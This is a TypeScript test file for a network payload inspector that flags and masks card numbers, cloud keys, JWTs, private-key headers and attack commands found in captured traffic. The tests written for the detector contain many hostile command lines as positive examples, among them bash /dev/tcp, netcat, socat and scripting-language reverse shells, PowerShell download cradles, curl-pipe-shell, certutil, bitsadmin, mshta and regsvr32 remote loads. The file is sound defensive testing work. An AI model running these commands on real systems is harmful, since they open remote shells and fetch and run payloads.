import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  decodeMapped,
  matchPayload,
  PAYLOAD_RULES_BLOBS,
  PayloadInspector,
  type PayloadLogRecord,
} from '../../../../src/ingest/pcap/app/payload.js';
import type { ProtocolEvent } from '../../../../src/ingest/pcap/packet.js';
import { COMMAND_PATTERNS, findCommands, maskSensitive } from '../../../../src/shared/sensitive-patterns.js';

const enc = new TextEncoder();
const CARD = '4111111111111111'; // Luhn-valid Visa test number
const BAD_CARD = '4111111111111112'; // fails Luhn

interface Logged {
  readonly ts: number;
  readonly rec: PayloadLogRecord;
}

function inspector(budget = 4096): { p: PayloadInspector; out: Logged[]; events: ProtocolEvent[] } {
  const out: Logged[] = [];
  const events: ProtocolEvent[] = [];
  const p = new PayloadInspector(
    budget,
    (ts, rec) => out.push({ ts, rec }),
    (e) => events.push(e),
    'Cuid',
  );
  return { p, out, events };
}

describe('matchPayload', () => {
  it('finds a Luhn-valid card, masked, and not an invalid one', () => {
    const found = matchPayload(enc.encode(`POST /pay HTTP/1.1\r\n\r\ncc=${CARD}&x=${BAD_CARD}`));
    expect(found).toMatchObject([{ kind: 'card', pattern: 'card', value: '************1111', length: 16 }]);
    expect(JSON.stringify(found)).not.toContain(CARD);
  });

  it('reports keys by provider, JWTs and private-key headers', () => {
    const jwt = `${Buffer.from('{"alg":"HS256"}').toString('base64url')}.eyJzdWIiOiJ4In0.c2ln`;
    const text = `AKIAABCDEFGHIJKLMNOP ${jwt} -----BEGIN RSA PRIVATE KEY-----`;
    const found = matchPayload(enc.encode(text));
    expect(found.map((f) => [f.kind, f.pattern])).toEqual([
      ['api-key:aws', 'aws-access-key'],
      ['jwt', 'jwt'],
      ['private-key', 'private-key'],
    ]);
    expect(found[0]!.start).toBe(0);
    expect(found[1]!.start).toBe(21);
    for (const f of found) expect(f.value.startsWith('****')).toBe(true);
  });

  it('finds command lines by family, sensitive values inside them masked', () => {
    const found = matchPayload(enc.encode(`id\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n`));
    expect(found).toMatchObject([
      { kind: 'reverse-shell', pattern: 'dev-tcp', value: '/dev/tcp/203.0.113.9/4444' },
    ]);
    const dl = matchPayload(enc.encode(`curl -s http://203.0.113.9/x.sh?k=${CARD} | bash`));
    const cmd = dl.find((f) => f.kind === 'download-exec')!;
    expect(cmd.pattern).toBe('download-pipe-shell');
    expect(cmd.value).not.toContain(CARD);
    expect(cmd.value).toContain('************1111');
  });

  it('matches percent-encoded form bodies at the offset of their raw bytes, once', () => {
    const body = `a=1&c=bash+-i+%3E%26+%2Fdev%2Ftcp%2F10.0.0.1%2F4444&cc=${CARD}`;
    const found = matchPayload(enc.encode(body));
    expect(found.map((f) => f.pattern)).toEqual(['dev-tcp', 'card']);
    expect(found[0]!.start).toBe(body.indexOf('%2Fdev'));
    expect(found[1]!.start).toBe(body.indexOf(CARD));
  });

  it('reports blobs only with the blob rules', () => {
    const blob = Buffer.from(Array.from({ length: 200 }, (_, i) => (i * 97 + 13) & 0xff)).toString('base64');
    expect(matchPayload(enc.encode(`x=${blob}`))).toEqual([]);
    expect(matchPayload(enc.encode(`x=${blob}`), PAYLOAD_RULES_BLOBS).map((f) => f.kind)).toEqual(['blob']);
  });

  it('decodeMapped maps every decoded character to its raw index', () => {
    const d = decodeMapped('a%41+%zz%4');
    expect(d.text).toBe('aA %zz%4');
    expect([...d.map]).toEqual([0, 1, 4, 5, 6, 7, 8, 9, 10]);
  });
});

describe('command patterns', () => {
  const positives: [string, string][] = [
    ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'dev-tcp'],
    ['nc -e /bin/sh 203.0.113.9 4444', 'netcat-exec'],
    ['ncat.exe 203.0.113.9 4444 -e cmd.exe', 'netcat-exec'],
    ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f', 'mkfifo-shell'],
    ["socat tcp-connect:203.0.113.9:4444 exec:'bash -li',pty,stderr", 'socat-exec'],
    ["python3 -c 'import socket,subprocess,os;s=socket.socket()'", 'script-reverse-shell'],
    ['perl -e \'use Socket;$i="203.0.113.9"\'', 'script-reverse-shell'],
    ['php -r \'$sock=fsockopen("203.0.113.9",4444);\'', 'script-reverse-shell'],
    ['ruby -rsocket -e \'f=TCPSocket.open("203.0.113.9",4444)\'', 'script-reverse-shell'],
    ['powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA', 'powershell-encoded'],
    ["IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')", 'powershell-cradle'],
    ['curl -fsSL http://203.0.113.9/x.sh | sh', 'download-pipe-shell'],
    ['wget http://203.0.113.9/x -O /tmp/x && chmod +x /tmp/x && /tmp/x', 'download-chmod'],
    ['certutil -urlcache -split -f http://203.0.113.9/x.exe x.exe', 'certutil-download'],
    [
      'bitsadmin /transfer job /download /priority high http://203.0.113.9/x.exe C:\\x.exe',
      'bitsadmin-transfer',
    ],
    ['mshta http://203.0.113.9/x.hta', 'mshta-remote'],
    ['regsvr32 /s /n /u /i:http://203.0.113.9/x.sct scrobj.dll', 'regsvr32-remote'],
  ];
  it.each(positives)('%s → %s', (text, kind) => {
    expect(findCommands(text).map((m) => m.kind)).toContain(kind);
  });

  it('every pattern has a positive example', () => {
    const covered = new Set(positives.map(([, k]) => k));
    for (const [kind] of COMMAND_PATTERNS) expect(covered.has(kind)).toBe(true);
  });

  it('ordinary protocol text does not match', () => {
    const benign = [
      'GET /index.html HTTP/1.1\r\nHost: example.com\r\nUser-Agent: curl/8.4.0\r\nAccept: */*\r\n\r\n',
      'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<p>Use the socat manual; nc is netcat.</p>',
      '220 mail.example.com ESMTP Postfix\r\nEHLO client\r\nMAIL FROM:<a@example.com>\r\n',
      'USER anonymous\r\nPASS guest\r\nRETR /pub/mshta-notes.txt\r\nSTOR bitsadmin.log\r\n',
      'Subject: regsvr32 and certutil usage\r\n\r\nwget is a download tool; curl too.\r\n',
      'PRIVMSG #linux :python -c is handy, perl -e too\r\n',
    ];
    for (const text of benign) expect(findCommands(text)).toEqual([]);
  });

  it('maskSensitive leaves text without sensitive values alone', () => {
    expect(maskSensitive('nc -e /bin/sh 10.0.0.1 4444')).toBe('nc -e /bin/sh 10.0.0.1 4444');
    expect(maskSensitive(`x ${CARD} y 512-34-6789`)).toBe('x ************1111 y *****6789');
  });
});

describe('PayloadInspector', () => {
  it('finds a pattern split across two segments, with the time of the segment completing it', () => {
    const { p, out } = inspector();
    const line = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n';
    p.push(true, enc.encode(line.slice(0, 15)), 10);
    p.push(true, enc.encode(line.slice(15)), 11);
    expect(p.wants(true)).toBe(true);
    p.close(12);
    expect(out).toEqual([
      {
        ts: 11,
        rec: {
          isOrig: true,
          kind: 'reverse-shell',
          pattern: 'dev-tcp',
          value: '/dev/tcp/203.0.113.9/4444',
          length: 25,
          offset: 11,
        },
      },
    ]);
  });

  it('reads exactly the budget: a value ending at its last byte is found, one byte later is not', () => {
    for (const [pad, found] of [
      [4096 - 16, true],
      [4096 - 15, false],
    ] as const) {
      const { p, out } = inspector(4096);
      p.push(true, enc.encode(`${'x'.repeat(pad - 1)} ${CARD}\n`), 1);
      expect(p.wants(true)).toBe(false); // budget full: matched and released at once
      p.push(true, enc.encode(` ${CARD} `), 2); // past the budget: ignored
      p.close(3);
      expect(out.length).toBe(found ? 1 : 0);
      if (found) expect(out[0]!.rec.offset).toBe(4096 - 16);
    }
  });

  it('grows its buffer for a small piece followed by large ones', () => {
    const { p, out } = inspector(4096);
    p.push(true, enc.encode(`GET / HTTP/1.1\r\n${'h'.repeat(900)}`), 1);
    p.push(true, enc.encode(`${'b'.repeat(1500)}\n`), 2);
    p.push(true, enc.encode(`${'c'.repeat(1000)}\n${CARD}\n`), 3);
    p.close(4);
    expect(out.map((o) => [o.ts, o.rec.offset])).toEqual([[3, 916 + 1501 + 1001]]);
  });

  it('keeps directions apart and stops at a gap', () => {
    const { p, out } = inspector();
    p.push(false, enc.encode(`card ${CARD.slice(0, 8)}`), 1);
    p.gap(false);
    expect(p.wants(false)).toBe(false);
    p.push(false, enc.encode(CARD.slice(8)), 2);
    p.push(true, enc.encode(`ssn 512-34-6789 `), 3);
    p.close(4);
    expect(out.map((o) => [o.rec.isOrig, o.rec.kind])).toEqual([[true, 'ssn']]);
  });

  it('stop() matches what came before (STARTTLS) and nothing after', () => {
    const { p, out } = inspector();
    p.push(true, enc.encode(`MAIL FROM:<a@b> ${CARD}\r\n`), 1);
    p.stop();
    expect(p.wants(true)).toBe(false);
    p.push(true, enc.encode(`${CARD} `), 2);
    p.close(3);
    expect(out.map((o) => o.rec.pattern)).toEqual(['card']);
  });

  it('UDP: each datagram on its own, within the budget', () => {
    const { p, out } = inspector(64);
    p.datagram(true, enc.encode(`q ${CARD.slice(0, 8)}`), 1); // 10 bytes
    p.datagram(true, enc.encode(`${CARD.slice(8)} ${CARD} `), 2); // not joined with the first
    p.datagram(true, enc.encode(`${'y'.repeat(40)} ${CARD}`), 3); // cut at the budget
    p.close(4);
    expect(out.map((o) => [o.ts, o.rec.offset])).toEqual([[2, 19]]);
  });

  it('logs at most 16 records per connection and counts the rest in one event', () => {
    const { p, out, events } = inspector();
    p.push(true, enc.encode(Array.from({ length: 20 }, () => CARD).join('\n')), 1);
    p.close(2);
    expect(out.length).toBe(16);
    expect(events).toMatchObject([
      { name: 'payload_match_limit', detail: 'Cuid: 4 payload matches beyond the 16 logged' },
    ]);
  });

  it('fuzz: any bytes, any segmentation — never throws, nothing unmasked, bounded', () => {
    const alphabet = fc.constantFrom(
      ...'0123456789 -abcxyzAKIA/%+=.\n'.split(''),
      CARD,
      '/dev/tcp/1.2.3.4/4444',
      'eyJhbGciOiJIUzI1NiJ9',
      '-----BEGIN PRIVATE KEY-----',
    );
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            fc.uint8Array({ maxLength: 300 }),
            fc.array(alphabet, { maxLength: 40 }).map((a) => enc.encode(a.join(''))),
          ),
          {
            maxLength: 12,
          },
        ),
        fc.integer({ min: 1, max: 2048 }),
        fc.boolean(),
        (pieces, budget, udp) => {
          const { p, out } = inspector(budget);
          let t = 0;
          for (const piece of pieces) {
            const isOrig = (t & 1) === 0;
            if (udp) p.datagram(isOrig, piece, t);
            else p.push(isOrig, piece, t);
            t++;
          }
          p.close(t);
          expect(out.length).toBeLessThanOrEqual(16);
          for (const o of out) {
            expect(o.rec.value).not.toContain(CARD);
            expect(o.rec.offset).toBeLessThan(budget);
            expect(o.ts).toBeLessThanOrEqual(t);
          }
        },
      ),
      { numRuns: 300 },
    );
  });
});
